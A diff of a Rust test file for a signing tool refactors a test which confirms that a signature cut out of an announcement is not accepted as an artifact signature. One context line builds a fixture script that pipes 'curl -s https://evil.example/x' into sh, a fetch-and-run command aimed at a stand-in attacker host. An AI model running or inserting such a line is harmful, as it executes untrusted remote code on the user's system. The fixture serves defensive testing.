@@ -331,11 +331,7 @@ fn a_signature_cut_out_of_an_announcement_is_not_an_artifact_signature() {
         .assert()
         .success();
     let script = "#!/bin/sh\n# install.sh\ncurl -s https://evil.example/x | sh\n";
-    let config = env.vault.join("keycycle.toml");
-    let toml = std::fs::read_to_string(&config)
-        .unwrap()
-        .replace("# template = \"announce.txt\"", "template = \"install.sh\"");
-    std::fs::write(&config, toml).unwrap();
+    env.edit_config("# template = \"announce.txt\"", "template = \"install.sh\"");
     std::fs::write(env.vault.join("install.sh"), script).unwrap();
     let ann = env.path("announcement.txt");
     let announce = [
@@ -436,11 +432,7 @@ fn a_signature_cut_out_of_an_announcement_is_not_an_artifact_signature() {
         .arg(&artifact)
         .output()
         .unwrap();
-    assert!(
-        out.status.success(),
-        "{}",
-        String::from_utf8_lossy(&out.stderr)
-    );
+    assert_ok(&out);
     let pile = openpgp::PacketPile::from_file(&sig).unwrap();
     let Some(openpgp::Packet::Signature(s)) = pile.children().next() else {
         panic!("a signature");
